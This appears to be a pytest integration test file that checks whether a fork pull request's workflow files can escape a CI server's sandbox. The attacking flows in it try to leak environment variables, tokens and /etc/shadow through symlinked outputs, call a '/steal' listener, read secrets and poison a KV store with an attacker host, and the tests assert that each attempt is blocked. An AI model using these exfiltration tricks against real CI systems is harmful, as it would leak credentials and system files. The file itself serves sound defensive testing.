"""A fork pull request attacks a real `flows serve` (real Docker, real git, real HTTP).

The fork's flows ask for the host (Process task runner), copy the server's environment and
the host's shadow file out through symlinked outputFiles, call a listener on 127.0.0.1 with
http.Request and write into the KV store. None of it may work: the run stays in a container
without network or secrets, and the listener hears nothing. The same pull request from the
repository itself (trusted) is the control: it reaches the listener, and still its steps do
not see the server's token.
"""

from __future__ import annotations

import base64
import http.server
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import BUSYBOX_IMAGE, Server
from tests.integration.test_hooks import SECRET, commit, git
from tests.integration.test_serve import call
from tests.unit.test_providers_github import octokit_examples  # noqa: F401 (fixture)
from tests.waiting import CEILING

CANARY = "canary-0d5e8f"  # in the server's environment: no step may ever see it
TOKEN = "ghp_servertoken0123456789"
SECRET_VALUE = "sekr1t-value-42"

HOST_FLOW = f"""\
id: host
namespace: attack
triggers:
  - id: on_pr
    type: gitflows.trigger.PullRequest
tasks:
  - id: env
    type: io.kestra.plugin.scripts.shell.Commands
    containerImage: {BUSYBOX_IMAGE}
    taskRunner:
      type: io.kestra.plugin.core.runner.Process
    commands:
      - echo "ifaces=$(ls /sys/class/net | tr '\\n' ' ')"
      - echo "canary=${{GITFLOWS_ATTACK_CANARY:-none}} token=${{GITHUB_TOKEN:-none}}"
      - echo "root=$(test -e /etc/debian_version && echo host || echo container)"
"""

LINK_FLOW = f"""\
id: links
namespace: attack
triggers:
  - id: on_pr
    type: gitflows.trigger.PullRequest
tasks:
  - id: plant
    type: io.kestra.plugin.scripts.shell.Commands
    containerImage: {BUSYBOX_IMAGE}
    commands:
      - ln -s /proc/self/environ env.txt
      - ln -s /etc/shadow shadow.txt
      - mkdir -p d && ln -s /etc d/etc
      - echo plain > plain.txt
    outputFiles: ["*.txt", "d/etc/shadow"]
"""

NETWORK_FLOW = """\
id: network
namespace: attack
triggers:
  - id: on_pr
    type: gitflows.trigger.PullRequest
tasks:
  - id: call
    type: io.kestra.plugin.core.http.Request
    uri: "http://127.0.0.1:{port}/steal?from={{{{ flow.id }}}}"
"""

KV_FLOW = """\
id: kv
namespace: prod
triggers:
  - id: on_pr
    type: gitflows.trigger.PullRequest
tasks:
  - id: poison
    type: io.kestra.plugin.core.kv.Set
    key: deploy_target
    value: attacker.example.invalid
"""

SECRET_FLOW = """\
id: secret
namespace: attack
triggers:
  - id: on_pr
    type: gitflows.trigger.PullRequest
tasks:
  - id: read
    type: io.kestra.plugin.core.debug.Return
    format: "{{ secret('DEPLOY') }}"
"""


CHAINED_FLOW = """\
id: chained
namespace: attack
triggers:
  - id: after_host
    type: io.kestra.plugin.core.trigger.Flow
    conditions:
      - type: io.kestra.plugin.core.condition.ExecutionFlow
        namespace: attack
        flowId: host
tasks:
  - id: read
    type: io.kestra.plugin.core.debug.Return
    format: "{{ secret('DEPLOY') }}"
"""


class Listener:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def attacked(tmp_path: Path, listener: Listener, docker_executor: Any
             ) -> Iterator[tuple[str, Path, str, str]]:
    """A served repository; its `feature` branch holds the attacking flows."""
    repo = tmp_path / "hello"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    base = commit(repo, "README.md", "hello\n", "initial")
    git(repo, "checkout", "-q", "-b", "feature")
    for name, text in {"host": HOST_FLOW, "links": LINK_FLOW, "kv": KV_FLOW,
                       "network": NETWORK_FLOW.format(port=listener.port),
                       "secret": SECRET_FLOW, "chained": CHAINED_FLOW}.items():
        (repo / ".flows").mkdir(exist_ok=True)
        (repo / ".flows" / f"{name}.yml").write_text(text)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "contribution")
    head = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "main")
    config = tmp_path / "serve.yml"
    config.write_text(f"repos:\n  - name: octo/hello\n    location: {repo}\n    provider: github\n"
                      "    webhook_secret_env: HELLO_SECRET\n    token_env: GITHUB_TOKEN\n"
                      "    api_url: http://127.0.0.1:9/\n")
    env = {"HELLO_SECRET": SECRET, "GITFLOWS_ATTACK_CANARY": CANARY, "GITHUB_TOKEN": TOKEN,
           "SECRET_DEPLOY": base64.b64encode(SECRET_VALUE.encode()).decode()}
    server = Server(["--config", str(config), "--data", str(tmp_path / "data"), "--executor",
                     "docker"], log=tmp_path / "serve.log", env=env)
    try:
        yield server.base, tmp_path, base, head
    finally:
        server.stop()


def pr_payload(examples: dict[str, list[dict[str, Any]]], base: str, head: str,
               head_repo: str) -> dict[str, Any]:
    import copy

    payload = copy.deepcopy(next(p for p in examples["pull_request"] if p["action"] == "synchronize"))
    payload.update(number=7, before=base, after=head)
    payload["repository"]["full_name"] = "octo/hello"
    pr = payload["pull_request"]
    pr["number"] = 7
    pr["base"].update(ref="main", sha=base)
    pr["base"]["repo"]["full_name"] = "octo/hello"
    pr["head"].update(ref="feature", sha=head)
    pr["head"]["repo"]["full_name"] = head_repo
    return payload


def deliver_pr(base_url: str, payload: dict[str, Any]) -> None:
    import hashlib
    import hmac
    import json
    import urllib.request
    import uuid

    body = json.dumps(payload).encode()
    signature = "sha256=" + hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()
    request = urllib.request.Request(base_url + "/hooks/github", data=body, method="POST", headers={
        "Content-Type": "application/json", "X-GitHub-Event": "pull_request",
        "X-GitHub-Delivery": str(uuid.uuid4()), "X-Hub-Signature-256": signature})
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 202


def ended_runs(base_url: str, count: int) -> dict[str, dict[str, Any]]:
    deadline = time.monotonic() + 120
    while True:
        found = call(base_url, "GET", "/api/v1/executions")[1]
        ended = [e for e in found if e["state"]["current"] in ("SUCCESS", "FAILED", "WARNING",
                                                                "KILLED")]
        if len(ended) >= count:
            return {e["flowId"]: call(base_url, "GET", f"/api/v1/executions/{e['id']}")[1]
                    for e in ended}
        assert time.monotonic() < deadline, found
        time.sleep(0.2)


def logs(base_url: str, execution: str) -> str:
    return "\n".join(str(line.get("message")) for line in
                     call(base_url, "GET", f"/api/v1/logs/{execution}")[1])


def every_git_object(repo: Path) -> str:
    """The text of every object in the repository (notes and logs refs included)."""
    listed = subprocess.run(["git", "-C", str(repo), "cat-file", "--batch-all-objects",
                             "--batch"], capture_output=True).stdout
    return listed.decode("utf-8", "replace")


def test_fork_pull_request_cannot_reach_the_host_network_or_shared_state(
        attacked: tuple[str, Path, str, str], listener: Listener,
        octokit_examples: dict[str, list[dict[str, Any]]]) -> None:  # noqa: F811
    base_url, root, base, head = attacked
    deliver_pr(base_url, pr_payload(octokit_examples, base, head, "mallory/hello"))
    runs = ended_runs(base_url, 6)

    host = logs(base_url, runs["host"]["id"])
    assert runs["host"]["state"]["current"] == "SUCCESS", host
    assert "ifaces=lo" in host and "eth0" not in host  # network none
    assert "canary=none token=none" in host  # no server environment, Process runner or not
    assert "root=container" in host

    links = runs["links"]
    kept = links["taskRunList"][0]["outputs"].get("outputFiles") or {}
    assert list(kept) == ["plain.txt"], links
    artifacts = root / "data" / "artifacts"
    copied = "".join(p.read_text(errors="replace") for p in artifacts.rglob("*") if p.is_file())
    assert "root:" not in copied and CANARY not in copied
    assert "symbolic link" in logs(base_url, links["id"])

    assert runs["network"]["state"]["current"] == "FAILED"
    assert "not allowed in an untrusted run" in logs(base_url, runs["network"]["id"])
    assert listener.requests == []

    assert runs["kv"]["state"]["current"] == "FAILED"
    assert not list((root / "data" / "kv").rglob("*deploy_target*"))

    assert runs["secret"]["state"]["current"] == "FAILED"
    assert "secrets are not available to untrusted runs" in logs(base_url, runs["secret"]["id"])
    # a re-run (from the API or the UI's button) keeps the run untrusted
    status, again = call(base_url, "POST", f"/api/v1/executions/{runs['secret']['id']}/rerun")
    assert status == 200, again
    deadline = time.monotonic() + CEILING
    while again["state"]["current"] not in ("SUCCESS", "FAILED"):
        assert time.monotonic() < deadline, again
        time.sleep(0.2)
        again = call(base_url, "GET", f"/api/v1/executions/{again['id']}")[1]
    assert again["state"]["current"] == "FAILED"
    assert "secrets are not available to untrusted runs" in logs(base_url, again["id"])
    # a flow its run's end triggers (from the fork's own commit) is just as untrusted
    assert runs["chained"]["state"]["current"] == "FAILED"
    assert "secrets are not available to untrusted runs" in logs(base_url, runs["chained"]["id"])

    for run in runs.values():
        answer = str(run) + logs(base_url, run["id"])
        assert CANARY not in answer and TOKEN not in answer and SECRET_VALUE not in answer
    served = root / "hello"
    objects = every_git_object(served)
    assert CANARY not in objects and TOKEN not in objects and SECRET_VALUE not in objects


def test_same_repository_pull_request_reaches_the_network_but_not_the_server_token(
        attacked: tuple[str, Path, str, str], listener: Listener,
        octokit_examples: dict[str, list[dict[str, Any]]]) -> None:  # noqa: F811
    base_url, _root, base, head = attacked
    deliver_pr(base_url, pr_payload(octokit_examples, base, head, "octo/hello"))
    runs = ended_runs(base_url, 6)
    assert runs["network"]["state"]["current"] == "SUCCESS", logs(base_url, runs["network"]["id"])
    assert listener.requests == ["/steal?from=network"]
    host = logs(base_url, runs["host"]["id"])
    assert "canary=none token=none" in host  # trusted, on the host: still no server environment
    assert "root=host" in host  # a trusted run may choose the Process runner
    assert runs["secret"]["state"]["current"] == "SUCCESS"
    assert runs["chained"]["state"]["current"] == "SUCCESS"
    shown = str(runs["secret"]) + logs(base_url, runs["secret"]["id"])
    assert SECRET_VALUE not in shown and "******" in shown  # used, but masked when shown
